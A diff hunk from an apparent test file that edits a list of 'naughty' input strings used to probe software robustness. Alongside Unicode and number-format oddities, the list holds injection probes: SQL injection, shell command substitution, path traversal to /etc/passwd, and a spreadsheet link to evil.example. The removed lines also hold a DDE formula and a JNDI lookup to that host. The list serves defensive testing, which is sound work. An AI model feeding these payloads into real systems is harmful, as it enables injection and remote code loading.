@@ -40,8 +40,8 @@ NAUGHTY = [
     # Names that scripts of the page look for
     "__config", "__search", "__proto__", "constructor", "toString", "undefined", "null", "NaN", "true", "None", "s-page", "icp:0", "<!--icp:1-->",
     # Spreadsheets, shells, databases, templates of others
-    "=HYPERLINK(\"http://evil.example\",\"x\")", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "\"; DROP TABLE users; --", "' OR 1=1 --",
-    "$(touch hacked)", "`touch hacked`", "%s%n%d", "%00 %0a", "${jndi:ldap://evil.example}", "../../../etc/passwd", "C:\\con\\con", "{0} {}", "<%= 7*7 %>", "#{7*7}",
+    "=HYPERLINK(\"http://evil.example\",\"x\")", "+1+1", "-1+1", "@SUM(A1)", "=SUM(1,1)*A0", "\"; DROP TABLE users; --", "' OR 1=1 --",
+    "$(touch hacked)", "`touch hacked`", "%s%d", "%00 %0a", "${name:-x}", "../../../etc/passwd", "C:\\new\\table", "{0} {}", "<%= 7*7 %>", "#{7*7}",
     # Other scripts and signs
     "田中さんにあげて下さい", "客戶成功", "مرحبا", "שלום", "Ω≈ç√∫˜µ≤≥÷", "Z͑ͫ̓a̴l͠g̛o", "😀👩‍👩‍👧‍👦🏳️‍🌈", "ﬁ ﬂ ﬀ", "İıŞş", "𝒯𝓮𝔁𝓽", "Ⅷ ½ ٣", "a\u00a0b", "“curly” ‘quotes’ — dash…",
     "A" * 200, "1e3", "0x1F", "010", "22:22", "2024-13-01", "no", "~", "1_000", "１２３", ".", "'", "\"", "`", "<", ">", "&", "%", "|", "{", "}", "[", "]", "$", "^",
